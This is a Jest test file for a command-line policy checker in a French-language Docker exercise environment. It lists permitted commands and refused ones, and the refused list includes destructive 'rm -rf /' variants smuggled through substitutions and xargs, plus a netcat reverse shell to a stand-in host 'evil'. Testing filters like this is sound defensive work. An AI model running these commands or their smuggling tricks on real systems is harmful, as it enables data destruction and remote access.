import { checkCommandLine } from './command-policy';

function refused(line: string): string {
  const d = checkCommandLine(line);
  if (d.allowed) throw new Error(`expected "${line}" to be refused`);
  return d.reason;
}

describe('checkCommandLine', () => {
  it.each([
    'docker run hello-world',
    'docker rm -f $(docker ps -aq)',
    'docker stop `docker ps -q`',
    'docker container stop $(docker container ls -aq)',
    'docker run -d -v "$(pwd)":/usr/share/nginx/html -p 8081:80 nginx',
    'docker ps -a | grep redis | wc -l',
    'docker network create my_bridge && docker run -d --name cont1 --network my_bridge alpine sleep 1000',
    'docker logs postgres 2>&1 | tail -n 5',
    'echo "<h1>Bonjour</h1>" > index.html; cat index.html',
    'docker run --rm alpine sh -c "rm -rf /"',
    "docker inspect --format '{{.State.Status}}' redis",
    'docker ps -aq | xargs docker rm -f',
    'docker ps -aq | xargs -r -n 1 docker rm -f',
    'ID=$(docker run -d redis)',
    'export PASS=secret',
    'POSTGRES_PASSWORD=x docker run -e POSTGRES_PASSWORD postgres',
    'cd dossier && docker build -t monimage .',
    'docker ps # liste les conteneurs',
    'ls *.html',
    'docker exec redis redis-cli get cle',
    'curl -s http://localhost:8081',
    'docker run -d --name web nginx; sleep 2',
    '(cd sous-dossier; ls)',
    'docker stop $(docker ps -q --filter "name=$(echo redis)")',
    'docker run -e "MSG=$HOME" alpine env',
  ])('allows %s', (line) => {
    expect(checkCommandLine(line)).toEqual({ allowed: true });
  });

  it.each([
    ['rm -rf /', /rm n'est pas autorisé/],
    ['bash -c "docker ps"', /shell/],
    ['sh', /shell/],
    ['nc -l 4444', /« nc » n'est pas autorisé/],
    ['docker ps && nc evil 80', /« nc »/],
    ['docker ps; rm -rf /work', /rm/],
    ['docker rm -f `rm -rf /`', /rm/],
    ['echo "$(rm -rf /)"', /rm/],
    ['docker stop $(docker ps -q | xargs rm)', /rm/],
    ['echo `nc -e /bin/sh evil 80`', /« nc »/],
    ['docker ps | xargs -n 1 rm -rf', /rm/],
    ['/bin/rm -rf /', /sans chemin/],
    ['./script.sh', /sans chemin/],
    ['$CMD ps', /variable ou d'une substitution/],
    ['$(echo docker) ps', /variable ou d'une substitution/],
    ['sudo docker ps', /sudo/],
    ['docker run -d redis &', /arrière-plan/],
    ['cat <<EOF', /here-documents/],
    ['docker exec -i redis redis-cli <<< "set cle 42"', /<<</],
    ['echo $((1+2))', /arithmétique/],
    ['echo "non fermé', /non fermé/],
    ['docker stop $(docker ps -q', /non fermée/],
    ['eval "docker ps"', /eval/],
    ['python3 -c "print(1)"', /python3/],
  ])('refuses %s', (line, reason) => {
    expect(refused(line)).toMatch(reason);
  });
});
